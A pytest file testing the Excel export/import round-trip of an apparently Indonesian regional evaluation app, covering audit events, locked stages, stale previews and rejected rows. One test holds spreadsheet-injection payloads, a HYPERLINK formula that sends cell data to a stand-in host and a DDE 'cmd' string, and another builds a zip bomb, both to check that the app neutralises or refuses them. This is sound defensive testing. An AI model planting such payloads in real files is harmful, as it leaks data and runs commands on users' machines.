"""Budi of Dinkes downloads his agency's workbook, fills it offline and sends it back; Sari of
the secretariat does the same for the kelurahan answers. Everything is checked before anything
is written, with the web form's own rules, and applied all or nothing."""

from __future__ import annotations

import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from layak.audit.models import AuditEvent
from layak.core.messages import InputError
from layak.core.stages import Stage
from layak.evaluation.models import Answer, StageWindow
from layak.evaluation.services import Conflict, save_answer, set_lock
from layak.roundtrip.checking import (
    CHANGED,
    NEW,
    REJECTED,
    UNCHANGED,
    apply_plan,
    check_rows,
    file_digest,
    import_file,
    read_book,
)

KELURAHAN = "18.72.01.1005"  # Yosomulyo


def snapshot(cycle) -> tuple[list[tuple], int]:
    answers = sorted(
        Answer.objects.filter(cycle=cycle).values_list(
            "question_code", "unit_id", "value", "note", "version"
        ),
        key=str,
    )
    # A refused import leaves its one `unggahan_ditolak` event (tests/hostile counts those).
    return answers, AuditEvent.objects.exclude(action="unggahan_ditolak").count()


def dry_run(user, cycle, agency, path: Path):
    return import_file(user, cycle, agency, path, dry_run=True)


def rejections(plan) -> list[tuple[int | None, str | None, str]]:
    return [(p.row, p.column, p.message.key) for p in plan.problems]


@pytest.mark.django_db
def test_budi_exports_and_imports_dinkes_unchanged(cycle, person, agency, book) -> None:
    budi, dinkes = person("budi"), agency("Dinkes")
    before = snapshot(cycle)
    plan = import_file(budi, cycle, dinkes, book("budi").path, dry_run=False)
    counts = plan.counts()
    assert counts[UNCHANGED] == len(plan.outcomes) > 1
    assert counts[NEW] == counts[CHANGED] == counts[REJECTED] == 0
    assert snapshot(cycle) == before


@pytest.mark.django_db
def test_a_kelurahan_question_round_trips_unchanged(cycle, person, agency, book) -> None:
    sari = person("sari")
    question = cycle.instrument.question("26.12")
    unit = cycle.region.units(4).get(code=KELURAHAN)
    save_answer(
        sari,
        cycle,
        question,
        value="ya",
        note="Posyandu aktif",
        expected_version=None,
        submit=True,
        unit=unit,
    )
    exported = book("sari")
    assert exported.cell("26.12", "jawaban", KELURAHAN) == "Ya"
    assert exported.cell("26.12", "catatan", KELURAHAN) == "Posyandu aktif"
    units = [r for r in exported.rows() if r["kode"] == "26.12"]
    assert len(units) == cycle.region.units(4).count()
    before = snapshot(cycle)
    plan = import_file(sari, cycle, agency("Dinkes"), exported.path, dry_run=False)
    assert plan.counts()[UNCHANGED] == len(plan.outcomes)
    assert snapshot(cycle) == before


@pytest.mark.django_db
def test_a_changed_value_is_shown_then_applied_with_one_audit_event(
    cycle, person, agency, book
) -> None:
    budi, dinkes = person("budi"), agency("Dinkes")
    answer = Answer.objects.get(cycle=cycle, question_code="12.2", unit=None)
    exported = book("budi").set("12.2", jawaban=37.5, catatan="Data Dinkes 2025")
    plan = dry_run(budi, cycle, dinkes, exported.path)
    (change,) = plan.writes
    assert (change.code, change.kind, change.value, change.note) == (
        "12.2",
        CHANGED,
        "37.5",
        "Data Dinkes 2025",
    )
    assert Answer.objects.get(pk=answer.pk).version == answer.version  # a dry run writes nothing
    events = AuditEvent.objects.count()
    import_file(budi, cycle, dinkes, exported.path, dry_run=False)
    saved = Answer.objects.get(pk=answer.pk)
    assert (saved.value, saved.note, saved.version) == (
        "37.5",
        "Data Dinkes 2025",
        answer.version + 1,
    )
    assert saved.updated_by == budi
    assert AuditEvent.objects.count() == events + 1
    event = AuditEvent.objects.for_object("answer", answer.pk).first()
    assert event.action == "answer.save"
    assert event.actor == budi
    assert event.after["value"] == "37.5"
    # The same file again changes nothing and says so: its rows now equal the answers.
    again = dry_run(budi, cycle, dinkes, exported.path)
    assert again.writes == []
    assert again.problems == []
    assert again.counts()[UNCHANGED] == len(again.outcomes)


@pytest.mark.django_db
def test_sari_answers_kelurahan_rows_and_the_region_answer_is_recomputed_once(
    cycle, person, agency, book
) -> None:
    sari = person("sari")
    Answer.objects.filter(cycle=cycle, question_code="26.12", unit=KELURAHAN).delete()
    exported = book("sari")
    other = "18.72.01.1002"
    flipped = "Tidak" if exported.cell("26.12", "jawaban", other) == "Ya" else "Ya"
    exported.set("26.12", KELURAHAN, jawaban="Ya").set("26.12", other, jawaban=flipped)
    events = AuditEvent.objects.count()
    plan = import_file(sari, cycle, agency("Dinkes"), exported.path, dry_run=False)
    assert sorted((o.unit, o.value) for o in plan.writes) == [
        (other, flipped.lower()),
        (KELURAHAN, "ya"),
    ]
    assert {o.unit: o.kind for o in plan.writes}[KELURAHAN] == NEW
    assert Answer.objects.get(cycle=cycle, question_code="26.12", unit=KELURAHAN).value == "ya"
    actions = list(AuditEvent.objects.order_by("id").values_list("action", flat=True)[events:])
    assert actions == ["answer.save", "answer.save", "answer.recompute"]


@pytest.mark.django_db
def test_every_refusal_is_named_by_row_and_column_and_nothing_is_written(
    cycle, person, agency, book
) -> None:
    budi, dinkes = person("budi"), agency("Dinkes")
    exported = book("budi")
    other = next(
        o.code
        for o in dry_run(budi, cycle, dinkes, exported.path).outcomes
        if o.code not in ("12.2", "26.12") and o.version > 0
    )
    exported.set("12.2", jawaban="banyak")
    foreign = exported.append(kode="4.2", jawaban="Ya", versi=0)
    unit_row = exported.find("26.12", KELURAHAN)
    current_unit = exported.cell("26.12", "jawaban", KELURAHAN)
    # budi may not answer for a kelurahan
    exported.set("26.12", KELURAHAN, jawaban="Tidak" if current_unit == "Ya" else "Ya")
    # Someone changes another Dinkes answer in Layak after the export ...
    stale_row = exported.find(other)
    current = Answer.objects.get(cycle=cycle, question_code=other, unit=None)
    save_answer(
        person("sari"),
        cycle,
        cycle.instrument.question(other),
        value=current.value,
        note="diubah sekretariat",
        expected_version=current.version,
        submit=False,
    )
    # ... while budi also changes it in his file.
    exported.set(other, catatan="diubah Budi")
    before = snapshot(cycle)
    plan = dry_run(budi, cycle, dinkes, exported.path)
    row_122 = exported.find("12.2")
    assert sorted(rejections(plan)) == sorted(
        [
            (row_122, "jawaban", "answer.not_a_number"),
            (foreign, "kode", "book.not_assigned"),
            (unit_row, "jawaban", "book.not_allowed"),
            (stale_row, "versi", "answer.conflict"),
        ]
    )
    assert import_file(budi, cycle, dinkes, exported.path, dry_run=False).counts()[REJECTED] == 4
    assert snapshot(cycle) == before
    # Nor does applying that check, whatever its token.
    rows, refused = read_book(cycle, exported.path)
    sha = file_digest(exported.path)
    with pytest.raises(InputError) as refusal:
        apply_plan(budi, cycle, dinkes, rows, refused, sha, plan.token)
    assert refusal.value.problems[0].message.key == "book.has_rejections"
    assert snapshot(cycle) == before


@pytest.mark.django_db
def test_a_locked_stage_refuses_every_changed_row(cycle, person, agency, book) -> None:
    budi, sari = person("budi"), person("sari")
    exported = book("budi").set("12.2", jawaban=10)
    window = StageWindow.objects.get(cycle=cycle, stage=Stage.SELF_ASSESSMENT.value)
    set_lock(sari, window, locked=True, reason="Rekap dikirim ke provinsi")
    before = snapshot(cycle)
    plan = dry_run(budi, cycle, agency("Dinkes"), exported.path)
    assert rejections(plan) == [(exported.find("12.2"), "jawaban", "stage.locked")]
    text = plan.problems[0].render()
    assert text.startswith(f"baris {exported.find('12.2')}, kolom jawaban: tahap")
    assert "Rekap dikirim ke provinsi" in text
    import_file(budi, cycle, agency("Dinkes"), exported.path, dry_run=False)
    assert snapshot(cycle) == before


@pytest.mark.django_db
def test_applying_a_stale_dry_run_is_refused(cycle, person, agency, book) -> None:
    budi, dinkes = person("budi"), agency("Dinkes")
    exported = book("budi").set("12.2", jawaban=55)
    rows, refused = read_book(cycle, exported.path)
    sha = file_digest(exported.path)
    token = check_rows(budi, cycle, dinkes, rows, refused, sha).token
    # Between the summary and "Terapkan", Dinkes's 2.2-like answer changes elsewhere.
    question = cycle.instrument.question("12.2")
    current = Answer.objects.get(cycle=cycle, question_code="12.2", unit=None)
    save_answer(
        person("sari"),
        cycle,
        question,
        value="60",
        note="",
        submit=False,
        expected_version=current.version,
    )
    before = snapshot(cycle)
    with pytest.raises(Conflict) as stale:
        apply_plan(budi, cycle, dinkes, rows, refused, sha, token)
    assert stale.value.problems[0].message.key == "book.stale_preview"
    assert snapshot(cycle) == before


@pytest.mark.django_db
def test_a_row_not_edited_does_not_undo_a_later_change_in_layak(
    cycle, person, agency, book
) -> None:
    budi, dinkes = person("budi"), agency("Dinkes")
    exported = book("budi")
    current = Answer.objects.get(cycle=cycle, question_code="12.2", unit=None)
    save_answer(
        budi,
        cycle,
        cycle.instrument.question("12.2"),
        value="99",
        note="baru di web",
        submit=False,
        expected_version=current.version,
    )
    plan = dry_run(budi, cycle, dinkes, exported.path)
    assert plan.writes == []
    assert plan.problems == []
    (newer,) = [o for o in plan.outcomes if o.newer_in_layak]
    assert (newer.code, newer.before_value, newer.value) == ("12.2", "99", current.value)


@pytest.mark.django_db
def test_formula_like_notes_are_neutralised_and_come_back_as_written(
    cycle, person, agency, book
) -> None:
    budi, dinkes = person("budi"), agency("Dinkes")
    hostile = {
        "12.2": '=HYPERLINK("http://x.invalid/?d="&A1,"klik")',
    }
    question = cycle.instrument.question("12.2")
    current = Answer.objects.get(cycle=cycle, question_code="12.2", unit=None)
    save_answer(
        budi,
        cycle,
        question,
        value=current.value,
        note=hostile["12.2"],
        submit=False,
        expected_version=current.version,
    )
    second = next(
        o.code
        for o in dry_run(budi, cycle, dinkes, book("budi").path).outcomes
        if o.code not in ("12.2", "26.12")
    )
    command = "+cmd|' /C calc'!A0"
    other = Answer.objects.filter(cycle=cycle, question_code=second, unit=None).first()
    save_answer(
        budi,
        cycle,
        cycle.instrument.question(second),
        value=other.value if other else "",
        note=command,
        submit=False,
        expected_version=other.version if other else None,
    )
    exported = book("budi")
    note_cell = exported.cell("12.2", "catatan")
    assert note_cell == "'" + hostile["12.2"]
    assert exported.cell(second, "catatan") == "'" + command
    with zipfile.ZipFile(exported.path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no cell holds a formula
    plan = dry_run(budi, cycle, dinkes, exported.path)
    assert plan.writes == []
    assert plan.problems == []
    # Retyped in a spreadsheet the apostrophe becomes a cell format: the text is the same.
    workbook_text = hostile["12.2"]
    workbook = openpyxl.load_workbook(exported.path)
    sheet = workbook["Jawaban"]
    header = {c.value: c.column for c in sheet[1]}
    cell = sheet.cell(exported.find("12.2"), header["catatan"])
    cell.value = workbook_text
    cell.data_type = "s"
    cell.quotePrefix = True
    workbook.save(exported.path)
    plan = dry_run(budi, cycle, dinkes, exported.path)
    assert plan.writes == []
    assert plan.problems == []


@pytest.mark.django_db
def test_a_file_that_is_not_a_workbook_or_a_zip_bomb_is_refused(
    cycle, person, agency, book, tmp_path
) -> None:
    csv = tmp_path / "jawaban.xlsx"
    csv.write_text("kode;jawaban;catatan;versi\n12.2;80;;1\n", encoding="utf-8")
    with pytest.raises(InputError) as refused:
        read_book(cycle, csv)
    assert refused.value.problems[0].message.key == "file.xlsx_not_zip"
    bomb = book("budi").path
    with zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/image1.png", bytes(20 * 1024 * 1024))
    with pytest.raises(InputError) as refused:
        read_book(cycle, bomb)
    assert refused.value.problems[0].message.key == "file.zip_ratio"
    empty = tmp_path / "kosong.xlsx"
    empty.write_bytes(b"")
    with pytest.raises(InputError) as refused:
        read_book(cycle, empty)
    assert refused.value.problems[0].message.key == "file.empty"


@pytest.mark.django_db
def test_budi_claims_part_of_a_yes_answers_points_in_the_workbook(cycle, person, agency, book):
    """As the national recap does, Budi grants 13.5 (yes/no, 4 points) only 2.64 points: the
    answer stays "ya", the points claimed are kept, and the next export shows them again."""
    budi, dinkes = person("budi"), agency("Dinkes")
    workbook = book("budi").set("13.5", jawaban="Ya", **{"poin diklaim": "2,64"})
    plan = import_file(budi, cycle, dinkes, workbook.path, dry_run=False)
    assert rejections(plan) == []
    answer = Answer.objects.get(cycle=cycle, question_code="13.5", unit=None)
    assert (answer.value, answer.points) == ("ya", Decimal("2.6400"))

    again = book("budi")
    assert again.cell("13.5", "poin diklaim") == 2.64
    assert import_file(budi, cycle, dinkes, again.path, dry_run=True).counts()[CHANGED] == 0


@pytest.mark.django_db
def test_claimed_points_are_refused_by_row_and_column(cycle, person, agency, book) -> None:
    """Above the maximum on Budi's row; on a kelurahan's row, where Sari may type only the
    kelurahan's yes/no (the city's points follow every kelurahan's answer)."""
    sari, dinkes = person("sari"), agency("Dinkes")
    before = snapshot(cycle)
    workbook = book("sari").set("13.5", **{"poin diklaim": "4,5"})
    workbook.set("26.12", unit=KELURAHAN, **{"poin diklaim": "1"})
    plan = import_file(sari, cycle, dinkes, workbook.path, dry_run=False)
    assert sorted(rejections(plan)) == sorted(
        [
            (workbook.find("13.5"), "poin diklaim", "answer.points_above_max"),
            (workbook.find("26.12", KELURAHAN), "poin diklaim", "answer.unit_points"),
        ]
    )
    assert snapshot(cycle) == before
